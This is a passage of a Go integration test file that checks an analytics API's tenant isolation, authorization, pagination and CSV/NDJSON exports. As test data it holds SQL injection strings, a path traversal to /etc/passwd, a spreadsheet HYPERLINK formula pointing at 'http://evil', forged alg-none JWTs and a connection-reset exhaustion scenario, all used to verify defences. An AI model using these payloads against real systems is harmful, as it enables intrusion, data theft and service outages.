package query_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/google/uuid"

	"github.com/analyticsd/analyticsd/api"
	"github.com/analyticsd/analyticsd/audit"
	"github.com/analyticsd/analyticsd/auth"
	"github.com/analyticsd/analyticsd/internal/testenv"
	"github.com/analyticsd/analyticsd/internal/testenv/fixture"
	"github.com/analyticsd/analyticsd/query"
	"github.com/analyticsd/analyticsd/tenant"
)

var jwtSecret = []byte("0123456789abcdef0123456789abcdef-test-secret")

type harness struct {
	env  testenv.Env
	srv  *fixture.Server
	svc  *query.Service
	a, b tenant.Tenant
	keys map[string]string // name → plaintext key
	now  time.Time
}

func newHarness(t *testing.T, maxExport int) *harness {
	t.Helper()
	h := &harness{env: testenv.Migrated(t), keys: map[string]string{}, now: time.Now().UTC()}
	h.a, h.b = fixture.Tenant(t, h.env.PG, "acme"), fixture.Tenant(t, h.env.PG, "globex")
	h.keys["a-read"], _ = fixture.Key(t, h.env.PG, h.a.ID, "a-read", auth.ScopeAnalyticsRead)
	h.keys["a-write"], _ = fixture.Key(t, h.env.PG, h.a.ID, "a-write", auth.ScopeEventsWrite)
	h.keys["a-admin"], _ = fixture.Key(t, h.env.PG, h.a.ID, "a-admin", auth.ScopeAnalyticsAdmin)
	h.keys["b-read"], _ = fixture.Key(t, h.env.PG, h.b.ID, "b-read", auth.ScopeAnalyticsRead)
	store := query.NewStore(h.env.CH, h.env.DB, h.env.PG, 10*time.Second)
	h.svc = query.NewService(query.Config{MaxExportRows: maxExport}, store, audit.New(h.env.PG), nil, nil)
	h.svc.SetZones(tenant.NewStore(h.env.PG))
	app := api.NewApp(api.Config{}, nil)
	authn := auth.NewAuthenticator(auth.NewKeys(h.env.PG), tenant.NewStore(h.env.PG), auth.JWTConfig{Secret: jwtSecret})
	h.svc.Register(app.Group("/api/analytics"), authn.Require(auth.ScopeAnalyticsRead))
	h.srv = fixture.Serve(t, app)
	return h
}

func (h *harness) jwt(t *testing.T, slug, role string, exp time.Duration) string {
	t.Helper()
	return fixture.JWT(t, jwtSecret, "user-1", slug, role, exp)
}

type ev struct {
	id                                    uuid.UUID
	tenant                                uuid.UUID
	ts                                    time.Time
	event, source, user, props, ip, reqID string
}

func (h *harness) insert(t *testing.T, rows []ev) {
	t.Helper()
	var values [][]any
	for _, r := range rows {
		if r.props == "" {
			r.props = "{}"
		}
		if r.source == "" {
			r.source = "app"
		}
		values = append(values, []any{r.tenant, r.ts, r.id, r.ts, r.event, r.source, r.user, r.props, r.ip, r.reqID})
	}
	h.env.Insert(t, "events", "tenant_id, ts, id, received_at, event, source, user_id, props, ip, request_id", values...)
}

func (h *harness) get(t *testing.T, token, slug, path string) fixture.Response {
	t.Helper()
	return h.srv.Get(t, token, slug, path)
}

func TestEventsResponseMatchesGuide(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	id := uuid.New()
	h.insert(t, []ev{{id: id, tenant: h.a.ID, ts: ts, event: "auth.user.login", source: "app", user: "user-456",
		props: `{"email":"user@example.com"}`, ip: "192.168.1.1", reqID: "req-789"}})
	r := h.get(t, h.keys["a-read"], "acme", "/api/analytics/events?event=auth.user.login&source=app&limit=100")
	if r.Status != 200 || r.Body["success"] != true {
		t.Fatalf("got %d %s", r.Status, r.Raw)
	}
	want := fmt.Sprintf(`{"events":[{"id":%q,"user_id":"user-456","source":"app","event":"auth.user.login","ts":%q,`+
		`"props":{"email":"user@example.com"},"ip":"192.168.1.1","request_id":"req-789"}],"has_more":false,"next_cursor":null}`,
		id.String(), ts.Format(time.RFC3339))
	got, _ := json.Marshal(r.Data())
	var norm any
	_ = json.Unmarshal([]byte(want), &norm)
	wantNorm, _ := json.Marshal(norm)
	if string(got) != string(wantNorm) {
		t.Errorf("events body:\n got %s\nwant %s", got, wantNorm)
	}
}

func (h *harness) walk(t *testing.T, first string, limit int) []string {
	t.Helper()
	var ids []string
	cursor := first
	for pages := 0; ; pages++ {
		if pages > 1000 {
			t.Fatal("pagination does not end")
		}
		path := fmt.Sprintf("/api/analytics/events?limit=%d", limit)
		if cursor != "" {
			path += "&cursor=" + url.QueryEscape(cursor)
		}
		r := h.get(t, h.keys["a-read"], "", path)
		if r.Status != 200 {
			t.Fatalf("page %d: %d %s", pages, r.Status, r.Raw)
		}
		d := r.Data()
		evs := d["events"].([]any)
		for _, e := range evs {
			ids = append(ids, e.(map[string]any)["id"].(string))
		}
		if d["has_more"] != true {
			if d["next_cursor"] != nil {
				t.Errorf("last page has a next_cursor")
			}
			return ids
		}
		if len(evs) != limit {
			t.Fatalf("page %d has %d events with has_more, want %d", pages, len(evs), limit)
		}
		cursor = d["next_cursor"].(string)
	}
}

// 5,000 events on 3 timestamps: every one appears exactly once, newest first, whatever the cursor form.
func TestPaginationExactlyOnce(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	base := h.now.Add(-2 * time.Hour).Truncate(time.Second)
	stamps := []time.Time{base, base.Add(time.Second), base.Add(-3 * time.Hour)}
	var rows []ev
	want := map[string]time.Time{}
	for i := 0; i < 5000; i++ {
		e := ev{id: uuid.New(), tenant: h.a.ID, ts: stamps[i%3], event: "a.b"}
		rows = append(rows, e)
		want[e.id.String()] = e.ts
	}
	// Tenant B's events interleave in time and must never appear.
	for i := 0; i < 300; i++ {
		rows = append(rows, ev{id: uuid.New(), tenant: h.b.ID, ts: stamps[i%3], event: "a.b"})
	}
	h.insert(t, rows)

	check := func(name string, ids []string, expect map[string]time.Time) {
		t.Helper()
		seen := map[string]bool{}
		var prev time.Time
		for i, id := range ids {
			ts, ok := expect[id]
			if !ok {
				t.Fatalf("%s: unexpected event %s", name, id)
			}
			if seen[id] {
				t.Fatalf("%s: event %s returned twice", name, id)
			}
			seen[id] = true
			if i > 0 && ts.After(prev) {
				t.Fatalf("%s: not newest first at %d", name, i)
			}
			prev = ts
		}
		if len(seen) != len(expect) {
			t.Fatalf("%s: walked %d events, want %d", name, len(seen), len(expect))
		}
	}
	check("opaque cursors", h.walk(t, "", 137), want)
	check("RFC3339 start", h.walk(t, base.Add(2*time.Second).Format(time.RFC3339), 1000), want)
	older := map[string]time.Time{}
	for id, ts := range want {
		if ts.Before(base) {
			older[id] = ts
		}
	}
	check("RFC3339 mid", h.walk(t, base.Format(time.RFC3339), 500), older)
}

func TestTenantIsolationOnEveryReadPath(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 1000)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	var rows []ev
	aIDs, bIDs := map[string]bool{}, map[string]bool{}
	for i := 0; i < 20; i++ {
		a := ev{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "auth.user.login", user: "alice"}
		b := ev{id: uuid.New(), tenant: h.b.ID, ts: ts, event: "auth.user.login", user: "bob"}
		if i%2 == 0 {
			b.event = "secret.b_only"
		}
		rows = append(rows, a, b)
		aIDs[a.id.String()], bIDs[b.id.String()] = true, true
	}
	h.insert(t, rows)
	paths := []string{
		"/api/analytics/active-users",
		"/api/analytics/events?limit=1000",
		"/api/analytics/events?user_id=bob",
		"/api/analytics/usage?metric[]=auth.user.login&metric[]=secret.b_only",
		"/api/analytics/metrics?metric=auth.user.login,secret.b_only",
		"/api/analytics/event-names",
		"/api/analytics/export.csv",
		"/api/analytics/export.csv?event=secret.b_only",
	}
	creds := []struct {
		name, token, slug string
		status            int
	}{
		{"A key, no slug", h.keys["a-read"], "", 200},
		{"A key, A slug", h.keys["a-read"], "acme", 200},
		{"A key, B slug", h.keys["a-read"], "globex", 403},
		{"A jwt, B slug", h.jwt(t, "acme", "owner", time.Hour), "globex", 403},
		{"A jwt", h.jwt(t, "acme", "admin", time.Hour), "acme", 200},
		{"jwt naming B, A key slug", h.jwt(t, "globex", "owner", time.Hour), "acme", 403},
	}
	for _, c := range creds {
		for _, p := range paths {
			r := h.get(t, c.token, c.slug, p)
			if r.Status != c.status {
				t.Errorf("%s %s: got %d %s, want %d", c.name, p, r.Status, r.Raw, c.status)
				continue
			}
			for id := range bIDs {
				if strings.Contains(r.Raw, id) {
					t.Errorf("%s %s: shows tenant B's event %s", c.name, p, id)
				}
			}
			if strings.Contains(r.Raw, "bob") || strings.Contains(r.Raw, "secret.b_only\":{\"today\":1") ||
				strings.Contains(r.Raw, `"secret.b_only","count"`) || strings.Contains(r.Raw, `"count":10`) {
				t.Errorf("%s %s: shows tenant B's data: %.300s", c.name, p, r.Raw)
			}
		}
	}
	// Positive control: A's own data is there.
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/events?limit=1000")
	if n := len(r.Data()["events"].([]any)); n != 20 {
		t.Errorf("A sees %d of its 20 events", n)
	}
}

func TestRBACMatrix(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	endpoints := []string{"/api/analytics/events", "/api/analytics/usage?metric=a.b", "/api/analytics/metrics", "/api/analytics/event-names", "/api/analytics/export.csv"}
	bad, _ := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"sub": "u", "tenant": "acme", "role": "owner", "exp": time.Now().Add(time.Hour).Unix()}).SignedString([]byte("another-secret-another-secret-xx"))
	none, _ := jwt.NewWithClaims(jwt.SigningMethodNone, jwt.MapClaims{"sub": "u", "tenant": "acme", "role": "owner", "exp": time.Now().Add(time.Hour).Unix()}).SignedString(jwt.UnsafeAllowNoneSignatureType)
	noExp, _ := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"sub": "u", "tenant": "acme", "role": "owner"}).SignedString(jwtSecret)
	noTenant, _ := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"sub": "u", "role": "owner", "exp": time.Now().Add(time.Hour).Unix()}).SignedString(jwtSecret)
	cases := []struct {
		name   string
		token  string
		status int
	}{
		{"key analytics:read", h.keys["a-read"], 200},
		{"key events:write only", h.keys["a-write"], 403},
		{"key analytics:admin only", h.keys["a-admin"], 403},
		{"jwt owner", h.jwt(t, "acme", "owner", time.Hour), 200},
		{"jwt admin", h.jwt(t, "acme", "admin", time.Hour), 200},
		{"jwt member", h.jwt(t, "acme", "member", time.Hour), 403},
		{"jwt viewer", h.jwt(t, "acme", "viewer", time.Hour), 403},
		{"jwt unknown role", h.jwt(t, "acme", "superuser", time.Hour), 403},
		{"jwt expired", h.jwt(t, "acme", "owner", -time.Hour), 401},
		{"jwt unknown tenant", h.jwt(t, "nope", "owner", time.Hour), 401},
		{"jwt wrong secret", bad, 401},
		{"jwt alg none", none, 401},
		{"jwt without exp", noExp, 401},
		{"jwt without tenant", noTenant, 401},
		{"garbage", "not-a-token", 401},
		{"missing", "", 401},
	}
	for _, c := range cases {
		for _, e := range endpoints {
			if r := h.get(t, c.token, "", e); r.Status != c.status {
				t.Errorf("%s %s: got %d %s, want %d", c.name, e, r.Status, r.Raw, c.status)
			}
		}
	}
}

func TestHostileParametersNeverFail(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	h.insert(t, []ev{{id: uuid.New(), tenant: h.a.ID, ts: h.now.Add(-time.Minute).Truncate(time.Second), event: "a.b"}})
	hostile := []string{"' OR 1=1 --", `"; DROP TABLE events; --`, "\x00", "%00", "\\", "a.b' OR '1'='1", strings.Repeat("x", 5000),
		"🙂", "../../etc/passwd", "1e309", "-1", "NaN", "null", "[]", "{}", "a.b\nUNION SELECT", "2024-01-01T00:00:00Z' --"}
	params := map[string][]string{
		"/api/analytics/events":       {"from", "to", "event", "source", "user_id", "limit", "cursor"},
		"/api/analytics/usage":        {"from", "to", "metric[]", "metric", "fill"},
		"/api/analytics/metrics":      {"metric[]", "metric"},
		"/api/analytics/event-names":  {"from", "to"},
		"/api/analytics/active-users": {"from", "to", "event"},
		"/api/analytics/export.csv":   {"from", "to", "event", "source", "user_id"},
	}
	for path, names := range params {
		for _, name := range names {
			for _, v := range hostile {
				q := url.Values{name: {v}}
				if path == "/api/analytics/usage" && !strings.HasPrefix(name, "metric") {
					q.Set("metric", "a.b")
				}
				r := h.get(t, h.keys["a-read"], "", path+"?"+q.Encode())
				if r.Status >= 500 || (r.Status != 200 && r.Status != 400) {
					t.Errorf("%s %s=%q: got %d %.200s, want 400 or 200", path, name, v, r.Status, r.Raw)
				}
				if r.Status == 400 {
					e, _ := r.Body["error"].(map[string]any)
					if e == nil || e["message"] == "" {
						t.Errorf("%s %s=%q: 400 without a message: %.200s", path, name, v, r.Raw)
					}
				}
			}
		}
	}
}

func TestExportCSV(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 10)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	var rows []ev
	for i := 0; i < 25; i++ {
		rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: ts.Add(time.Duration(i) * time.Second), event: "auth.user.login",
			user: "=HYPERLINK(\"http://evil\")", reqID: "+1+2", props: `{"note":"-3"}`, ip: "10.0.0.1"})
	}
	rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "other.thing", user: "@x"})
	h.insert(t, rows)
	r := h.get(t, h.keys["a-read"], "acme", "/api/analytics/export.csv?event=auth.user.login")
	if r.Status != 200 {
		t.Fatalf("got %d %s", r.Status, r.Raw)
	}
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, `attachment; filename="analytics-acme-`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	if l := r.Header.Get("X-Export-Row-Limit"); l != "10" {
		t.Errorf("X-Export-Row-Limit %q, want 10", l)
	}
	if tr, next := r.Header.Get("X-Export-Truncated"), r.Header.Get("X-Export-Next-Cursor"); tr != "true" || next == "" {
		t.Errorf("25 matching rows, cap 10: X-Export-Truncated %q, X-Export-Next-Cursor %q; want true and a cursor", tr, next)
	}
	recs, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != "id,ts,event,source,user_id,ip,request_id,props" {
		t.Errorf("header %v", recs[0])
	}
	if len(recs) != 11 {
		t.Fatalf("got %d rows, want the cap of 10 plus the header", len(recs)-1)
	}
	for _, rec := range recs[1:] {
		if rec[2] != "auth.user.login" || rec[4] != `'=HYPERLINK("http://evil")` || rec[6] != "'+1+2" || rec[7] != `{"note":"-3"}` {
			t.Errorf("row not filtered or not neutralised: %v", rec)
		}
	}
	if recs[1][1] != ts.Add(24*time.Second).Format(time.RFC3339) {
		t.Errorf("first row ts %s, want the newest", recs[1][1])
	}
	var audits int
	if err := h.env.PG.QueryRow(context.Background(), "SELECT count(*) FROM audit_log WHERE tenant_id = $1 AND action = 'export.csv' AND actor LIKE 'apikey:%'", h.a.ID).Scan(&audits); err != nil {
		t.Fatal(err)
	}
	if audits != 1 {
		t.Errorf("audit_log has %d export rows, want 1", audits)
	}
}

// exportPages follows an export's Link rel="next" from first until a page is not truncated, and
// returns every page's rows (CSV records without the header, or NDJSON objects as maps).
func (h *harness) exportPages(t *testing.T, first string) (pages [][]map[string]string) {
	t.Helper()
	next := first
	for i := 0; next != ""; i++ {
		if i > 100 {
			t.Fatal("export pages never end")
		}
		r := h.get(t, h.keys["a-read"], "", next)
		if r.Status != 200 {
			t.Fatalf("%s: %d %s", next, r.Status, r.Raw)
		}
		var page []map[string]string
		if strings.Contains(next, "export.ndjson") {
			if ct := r.Header.Get("Content-Type"); ct != "application/x-ndjson" {
				t.Errorf("NDJSON Content-Type %q", ct)
			}
			for _, line := range strings.Split(strings.TrimSuffix(r.Raw, "\n"), "\n") {
				if line == "" {
					continue
				}
				var obj map[string]any
				if err := json.Unmarshal([]byte(line), &obj); err != nil {
					t.Fatalf("NDJSON line %q: %v", line, err)
				}
				row := map[string]string{}
				for k, v := range obj {
					if k == "props" {
						b, _ := json.Marshal(v)
						row[k] = string(b)
					} else {
						row[k] = v.(string)
					}
				}
				page = append(page, row)
			}
		} else {
			recs, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
			if err != nil {
				t.Fatalf("CSV: %v", err)
			}
			for _, rec := range recs[1:] {
				row := map[string]string{}
				for j, col := range recs[0] {
					row[col] = rec[j]
				}
				page = append(page, row)
			}
		}
		pages = append(pages, page)
		truncated := r.Header.Get("X-Export-Truncated")
		link := r.Header.Get("Link")
		switch {
		case truncated == "false" && link == "":
			next = ""
		case truncated == "true" && strings.HasPrefix(link, "</api/analytics/export.") && strings.HasSuffix(link, `>; rel="next"`):
			next = strings.TrimSuffix(strings.TrimPrefix(link, "<"), `>; rel="next"`)
			if !strings.Contains(next, "cursor="+r.Header.Get("X-Export-Next-Cursor")) {
				t.Errorf("Link %q does not carry X-Export-Next-Cursor %q", link, r.Header.Get("X-Export-Next-Cursor"))
			}
		default:
			t.Fatalf("%s: X-Export-Truncated %q with Link %q", next, truncated, link)
		}
	}
	return pages
}

// A capped export says so and names the next page; following the pages yields every matching row
// exactly once, in order, even when many rows share one second (the boundary falls inside a second),
// when filters and an explicit limit apply, and when events arrive late between two pages. CSV and
// NDJSON page alike. Before continuations the cap cut silently: 100 of 150 rows, status 200.
func TestExportPagesCoverEveryRowOnce(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 7)
	base := h.now.Add(-2 * time.Hour).Truncate(time.Second)
	var rows []ev
	for i := 0; i < 40; i++ {
		// 40 rows on 5 distinct seconds: pages of 7 end inside a second.
		rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: base.Add(time.Duration(i%5) * time.Second), event: "auth.user.login", user: fmt.Sprintf("u%02d", i)})
	}
	rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: base, event: "other.event"}, ev{id: uuid.New(), tenant: h.b.ID, ts: base, event: "auth.user.login"})
	h.insert(t, rows)
	want := map[string]bool{}
	for _, r := range rows[:40] {
		want[r.id.String()] = true
	}
	for _, path := range []string{"/api/analytics/export.csv?event=auth.user.login", "/api/analytics/export.ndjson?event=auth.user.login",
		"/api/analytics/export.csv?event=auth.user.login&limit=3"} {
		pages := h.exportPages(t, path)
		got := map[string]int{}
		var prev map[string]string
		for i, page := range pages {
			max := 7
			if strings.Contains(path, "limit=3") {
				max = 3
			}
			if len(page) > max || (i < len(pages)-1 && len(page) != max) {
				t.Errorf("%s: page %d has %d rows, cap %d", path, i, len(page), max)
			}
			for _, row := range page {
				got[row["id"]]++
				// (ClickHouse orders UUIDs by their two 64-bit halves, not as strings: only ts is checked.)
				if prev != nil && row["ts"] > prev["ts"] {
					t.Errorf("%s: %v after %v: not newest first", path, row, prev)
				}
				prev = row
			}
		}
		for id := range want {
			if got[id] != 1 {
				t.Errorf("%s: event %s exported %d times, want once", path, id, got[id])
			}
		}
		if len(got) != len(want) {
			t.Errorf("%s: %d distinct events exported, want %d", path, len(got), len(want))
		}
	}

	// An event arriving late, older than the first page's boundary, is on a later page.
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv?event=auth.user.login")
	next := r.Header.Get("X-Export-Next-Cursor")
	late := ev{id: uuid.New(), tenant: h.a.ID, ts: base, event: "auth.user.login", user: "late"}
	h.insert(t, []ev{late})
	found := false
	for _, page := range h.exportPages(t, "/api/analytics/export.csv?event=auth.user.login&cursor="+next) {
		for _, row := range page {
			found = found || row["id"] == late.id.String()
		}
	}
	if !found {
		t.Error("an event that arrived after page 1, below its boundary, is on no later page")
	}
}

// Shutdown waits for exports still streaming (fiber does not: they left its hands with the
// connection), and gives up at its deadline.
func TestDrainWaitsForStreamingExports(t *testing.T) {
	h := newHarness(t, 100_000)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	props := `{"pad":"` + strings.Repeat("x", 400) + `"}`
	var rows []ev
	for i := 0; i < 40_000; i++ { // ~20 MB of CSV: more than the socket buffers hold
		rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "a.b", props: props})
	}
	h.insert(t, rows)
	if err := h.svc.Drain(context.Background()); err != nil {
		t.Fatalf("nothing streaming: %v", err)
	}
	res := h.srv.Open(t, fixture.Request{Path: "/api/analytics/export.csv", Key: h.keys["a-read"]})
	// The client reads nothing yet: the export is blocked on a full socket.
	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	if err := h.svc.Drain(ctx); err == nil {
		t.Fatal("Drain returned while an export was still streaming")
	}
	body, err := io.ReadAll(res.Body)
	if err != nil || strings.Count(string(body), "\n") != 40_001 {
		t.Fatalf("export: %d bytes, %d lines, %v", len(body), strings.Count(string(body), "\n"), err)
	}
	ctx, cancel = context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := h.svc.Drain(ctx); err != nil {
		t.Errorf("Drain after the export ended: %v", err)
	}
}

// What an attacker-minded review found in the first version of paged exports, each fixed:
// the next page's Link pins the range (a default "last 30 days" recomputed after midnight dropped
// the oldest day); a bare RFC3339 cursor bounds an export as it bounds /events (it was ignored);
// HEAD runs no export and audits nothing; an ip or user id cannot split a CSV row or cell (',' in
// an IPv6 zone, ';' for Excel's semicolon locales); NDJSON lines stay one JSON object whatever was
// stored as props.
func TestExportEdges(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 2)
	ts := h.now.Add(-2 * time.Hour).Truncate(time.Second)
	h.insert(t, []ev{
		{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "a.b", ip: "fe80::1%,=1+1", user: "u1;=1+1", props: "{\"a\":\n1}"},
		{id: uuid.New(), tenant: h.a.ID, ts: ts.Add(-time.Hour), event: "a.b", props: "not json"},
		{id: uuid.New(), tenant: h.a.ID, ts: ts.Add(-2 * time.Hour), event: "a.b"},
	})
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv")
	link := r.Header.Get("Link")
	from, to := r.Header.Get("X-Export-Truncated"), ""
	if u, err := url.Parse(strings.TrimSuffix(strings.TrimPrefix(link, "<"), `>; rel="next"`)); err != nil || from != "true" {
		t.Fatalf("Link %q (%v), truncated %q", link, err, from)
	} else {
		from, to = u.Query().Get("from"), u.Query().Get("to")
	}
	wantTo := h.now.Truncate(24*time.Hour).AddDate(0, 0, 1)
	if to != wantTo.Format(time.RFC3339) || from != wantTo.AddDate(0, 0, -30).Format(time.RFC3339) {
		t.Errorf("Link pins from=%q to=%q; want the resolved default range %s .. %s", from, to, wantTo.AddDate(0, 0, -30).Format(time.RFC3339), wantTo.Format(time.RFC3339))
	}
	recs, err := csv.NewReader(strings.NewReader(r.Raw)).ReadAll()
	if err != nil || len(recs) != 3 || len(recs[1]) != 8 {
		t.Fatalf("CSV: %v %q", err, r.Raw)
	}
	if recs[1][4] != "u1;=1+1" || recs[1][5] != "fe80::1%,=1+1" || !strings.Contains(r.Raw, `"u1;=1+1"`) || recs[1][7] != "{}" {
		t.Errorf("cells: user %q ip %q props %q; want one cell each (user quoted for ';'), props {}", recs[1][4], recs[1][5], recs[1][7])
	}
	// Bare cursor: only events older than the instant.
	r = h.get(t, h.keys["a-read"], "", "/api/analytics/export.ndjson?cursor="+ts.Add(-30*time.Minute).Format(time.RFC3339))
	lines := strings.Split(strings.TrimSpace(r.Raw), "\n")
	if len(lines) != 2 {
		t.Errorf("cursor 30 min before the newest event: %d lines, want the 2 older events: %q", len(lines), r.Raw)
	}
	for _, l := range lines {
		var obj map[string]any
		if err := json.Unmarshal([]byte(l), &obj); err != nil {
			t.Errorf("NDJSON line %q is not one JSON object: %v", l, err)
		}
	}
	// HEAD: the headers, no export and no audit row.
	var before, after int
	countAudits := func(n *int) {
		if err := h.env.PG.QueryRow(context.Background(), "SELECT count(*) FROM audit_log WHERE tenant_id = $1 AND action LIKE 'export.%'", h.a.ID).Scan(n); err != nil {
			t.Fatal(err)
		}
	}
	countAudits(&before)
	res := h.srv.Open(t, fixture.Request{Method: http.MethodHead, Path: "/api/analytics/export.csv", Key: h.keys["a-read"]})
	res.Body.Close()
	countAudits(&after)
	if res.StatusCode != 200 || res.Header.Get("X-Export-Truncated") != "true" || after != before {
		t.Errorf("HEAD: %d, truncated %q, audit rows %d -> %d; want 200, the headers, no audit row", res.StatusCode, res.Header.Get("X-Export-Truncated"), before, after)
	}
}

// A client that pipelines an export behind another request and resets the connection never gets
// the streamed response: its slot is given back and no ClickHouse query is left running (in the
// first version each such export held a pooled connection forever, and 12 of them took reads down
// for every tenant). Exports beyond a tenant's two at once are refused with 429.
func TestExportsCannotExhaustTheServer(t *testing.T) {
	h := newHarness(t, 100_000)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	props := `{"pad":"` + strings.Repeat("x", 400) + `"}`
	var rows []ev
	for i := 0; i < 40_000; i++ {
		rows = append(rows, ev{id: uuid.New(), tenant: h.a.ID, ts: ts, event: "a.b", props: props})
	}
	h.insert(t, rows)
	addr := strings.TrimPrefix(h.srv.URL, "http://")
	for i := 0; i < 6; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "GET /api/analytics/event-names HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n"+
			"GET /api/analytics/export.csv HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n", h.keys["a-read"], h.keys["a-read"])
		time.Sleep(5 * time.Millisecond) // the scenario: the requests reach the server, then the client resets
		c.(*net.TCPConn).SetLinger(0)
		c.Close()
	}
	// The server reads and handles what was pipelined after the reset. A fixed wait, not a poll: nothing
	// the service exposes counts exports started, and Drain alone would pass before they began.
	time.Sleep(time.Second)
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	start := time.Now()
	if err := h.svc.Drain(ctx); err != nil {
		t.Fatalf("exports of reset connections still hold their slots: %v", err)
	}
	t.Logf("the reset connections' slots were back after %s", time.Since(start).Round(time.Millisecond))
	if r := h.get(t, h.keys["b-read"], "", "/api/analytics/events?limit=1"); r.Status != 200 {
		t.Errorf("another tenant's read after the resets: %d %s", r.Status, r.Raw)
	}
	// Two slow exports of one tenant: a third is refused at once; another tenant's is not.
	var open []*http.Response
	for i := 0; i < 2; i++ {
		res := h.srv.Open(t, fixture.Request{Path: "/api/analytics/export.csv", Key: h.keys["a-read"]})
		if res.StatusCode != 200 {
			t.Fatalf("export %d: %v", i, res)
		}
		open = append(open, res)
	}
	tooMany := `{"error":{"code":"too_many_exports","message":"at most 2 exports of a tenant (4 in all) run at once; retry when one has finished"},"success":false}`
	if r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv"); r.Status != http.StatusTooManyRequests || !strings.Contains(r.Raw, "too_many_exports") ||
		r.Raw != tooMany || r.Header.Get("Retry-After") != "5" {
		t.Errorf("a third concurrent export: %d %s Retry-After %q, want 429 %s with Retry-After 5", r.Status, r.Raw, r.Header.Get("Retry-After"), tooMany)
	}
	if r := h.get(t, h.keys["b-read"], "", "/api/analytics/export.csv"); r.Status != 200 {
		t.Errorf("another tenant's export beside them: %d %s", r.Status, r.Raw)
	}
	for _, res := range open {
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
	}
	// Its own deadline: under load (CI, load average 10+) the first drain took 9 of its 15 s, and the
	// exports above then finished after the shared deadline had passed.
	ctx2, cancel2 := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel2()
	if err := h.svc.Drain(ctx2); err != nil {
		t.Errorf("after the exports were read: %v", err)
	}
}

// The NDJSON export carries each event as GET /events does, losslessly; CSV with bom=true starts
// with the UTF-8 byte-order mark Excel needs for non-ASCII text.
func TestExportNDJSONAndBOM(t *testing.T) {
	t.Parallel()
	h := newHarness(t, 100)
	ts := h.now.Add(-time.Hour).Truncate(time.Second)
	id := uuid.New()
	h.insert(t, []ev{{id: id, tenant: h.a.ID, ts: ts, event: "auth.user.login", user: "用户\x01\"q\"", reqID: "=1+1", props: `{"plan":"pro","n":2}`, ip: "10.0.0.1"}})
	r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.ndjson")
	var got map[string]any
	if err := json.Unmarshal([]byte(strings.TrimSpace(r.Raw)), &got); err != nil || r.Status != 200 {
		t.Fatalf("NDJSON: %d %q: %v", r.Status, r.Raw, err)
	}
	ev := h.get(t, h.keys["a-read"], "", "/api/analytics/events")
	var list struct {
		Data struct{ Events []map[string]any }
	}
	if err := json.Unmarshal([]byte(ev.Raw), &list); err != nil || len(list.Data.Events) != 1 {
		t.Fatalf("events: %s", ev.Raw)
	}
	if !reflect.DeepEqual(got, list.Data.Events[0]) {
		t.Errorf("NDJSON line %v\ndiffers from GET /events %v", got, list.Data.Events[0])
	}
	if got["user_id"] != "用户\x01\"q\"" || got["request_id"] != "=1+1" {
		t.Errorf("NDJSON is not lossless: %v", got)
	}
	r = h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv?bom=true")
	if !strings.HasPrefix(r.Raw, "\xEF\xBB\xBFid,ts,") {
		t.Errorf("bom=true: starts %q", r.Raw[:min(len(r.Raw), 12)])
	}
	if !strings.Contains(r.Raw, "用户\uFFFD") || !strings.Contains(r.Raw, "'=1+1") {
		t.Errorf("CSV cells not neutralised: %q", r.Raw)
	}
	if r := h.get(t, h.keys["a-read"], "", "/api/analytics/export.csv"); strings.HasPrefix(r.Raw, "\xEF") {
		t.Error("BOM without bom=true")
	}
	for path, want := range map[string]string{
		"/api/analytics/export.csv?limit=101":           "limit",
		"/api/analytics/export.csv?limit=0":             "limit",
		"/api/analytics/export.ndjson?bom=true":         "bom",
		"/api/analytics/export.csv?bom=yes":             "bom",
		"/api/analytics/export.csv?cursor=nope":         "cursor",
		"/api/analytics/events?source=app&source=api":   "source",
